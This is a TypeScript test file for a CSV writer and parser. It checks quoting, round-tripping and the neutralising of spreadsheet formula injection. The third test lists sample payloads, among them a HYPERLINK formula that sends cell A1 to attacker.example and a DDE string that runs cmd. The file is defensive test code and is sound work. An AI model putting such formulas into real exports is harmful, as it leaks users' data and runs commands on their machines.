import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvRow, parseCsv } from './csv';

describe('CSV', () => {
  it('quotes commas, quotes and line breaks, and doubles quotes', () => {
    expect(csvRow(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\r\nlf', null, 42, ' padded'])).toBe(
      'plain,"a,b","say ""hi""","two\nlines","cr\r\nlf",,42," padded"\r\n',
    );
    expect(csvField(Buffer.from('bytes'))).toBe('Ynl0ZXM=');
  });

  it('reads back the fields it wrote, whatever they hold, formulas made inert', () => {
    const field = fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', '\t', ' ', 'é', '=', '+', '-', '@') });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const written = rows.map(csvRow).join('');
        expect(parseCsv(written)).toEqual(rows.map((row) => row.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text))));
      }),
    );
  });

  it('keeps a formula a stranger wrote from running in the spreadsheet', () => {
    // A course bundle can steer what the tutor says, and tutor replies are exported.
    const attack = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    for (const payload of [attack, `+${attack}`, `-2+3+cmd|' /C calc'!A0`, '@SUM(1+1)*cmd', `\t${attack}`, `\r${attack}`]) {
      const [cell] = parseCsv(csvRow([payload]))[0]!;
      expect(cell!.startsWith("'")).toBe(true);
      expect(cell!.slice(1)).toBe(payload);
    }
    // Numbers are data, not text a stranger wrote: -3 stays a number.
    expect(csvRow([-3, 1.5])).toBe('-3,1.5\r\n');
  });
});
